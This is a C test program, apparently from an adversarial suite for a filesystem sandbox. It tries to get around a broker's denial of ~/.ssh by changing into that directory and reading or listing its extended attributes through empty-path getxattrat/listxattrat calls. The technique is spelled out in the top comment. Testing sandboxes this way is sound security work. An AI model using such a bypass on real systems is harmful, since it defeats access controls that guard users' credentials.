// technique: chdir (not trapped: the kernel does it) into the denied ~/.ssh, or fchdir to an O_PATH descriptor of it, then getxattrat and listxattrat(AT_FDCWD, "" or NULL, AT_EMPTY_PATH): the empty path names the cwd itself, which is neither a held descriptor nor a path the broker decides on
// build: static
#include "adv.h"
#include <linux/types.h>
#ifndef SYS_getxattrat
#define SYS_getxattrat 464
#endif
#ifndef SYS_listxattrat
#define SYS_listxattrat 465
#endif
struct xargs { __u64 value; __u32 size; __u32 flags; };
static void probe(const char *label) {
	char buf[4096];
	struct xargs a = { (unsigned long)buf, sizeof buf - 1, 0 };
	const char *paths[] = { "", NULL, "." };
	for (int i = 0; i < 3; i++) {
		long n = syscall(SYS_getxattrat, AT_FDCWD, paths[i], AT_EMPTY_PATH, "user.aixadv", &a, sizeof a);
		if (n >= 0) { buf[n] = 0; printf("%s getxattrat %s: %s\n", label, paths[i] ? paths[i] : "NULL", buf); }
		else printf("%s getxattrat %s: %s\n", label, paths[i] ? paths[i] : "NULL", strerror(errno));
		n = syscall(SYS_listxattrat, AT_FDCWD, paths[i], AT_EMPTY_PATH, buf, sizeof buf - 1);
		if (n > 0) { for (long j = 0; j < n; j++) if (!buf[j]) buf[j] = ' '; buf[n] = 0; printf("%s listxattrat %s: %s\n", label, paths[i] ? paths[i] : "NULL", buf); }
		else printf("%s listxattrat %s: %ld %s\n", label, paths[i] ? paths[i] : "NULL", n, n < 0 ? strerror(errno) : "");
	}
}
int main(void) {
	char ssh[1024], home[1024];
	snprintf(home, sizeof home, "%s", adv("HOME"));
	snprintf(ssh, sizeof ssh, "%s/.ssh", home);
	int proj = open(".", O_PATH | O_DIRECTORY);
	if (chdir(ssh) < 0) printf("chdir: %s\n", strerror(errno)); else probe("chdir ~/.ssh");
	fchdir(proj);
	int o = open(ssh, O_PATH | O_DIRECTORY);
	if (o < 0 || fchdir(o) < 0) printf("fchdir: %s\n", strerror(errno)); else probe("fchdir O_PATH ~/.ssh");
	fchdir(proj);
	return 0;
}
